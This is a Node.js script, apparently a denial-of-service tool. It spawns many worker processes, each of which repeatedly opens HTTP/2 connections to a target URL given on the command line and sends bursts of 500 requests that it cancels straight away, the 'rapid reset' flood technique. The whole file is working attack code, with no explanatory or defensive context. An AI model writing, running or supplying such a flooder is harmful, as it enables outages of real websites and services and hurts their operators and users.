const cluster = require('cluster');
const http2 = require('http2');
const os = require('os');

const target = process.argv[2] || 'https://www.example.com';
if (cluster.isPrimary) {
  for (let i = 0; i < os.cpus().length * 4; i++) cluster.fork();
  cluster.on('exit', () => cluster.fork());
} else {
  const go = () => {
    const s = http2.connect(target, { rejectUnauthorized: false });
    s.on('error', () => {});
    s.on('close', go);
    s.on('connect', () => {
      const burst = () => {
        if (s.destroyed) return;
        for (let i = 0; i < 500; i++) {
          const r = s.request({ ':path': '/?' + Math.random() });
          r.on('error', () => {});
          r.close(http2.constants.NGHTTP2_CANCEL);
        }
        setImmediate(burst);
      };
      burst();
    });
  };
  go();
}
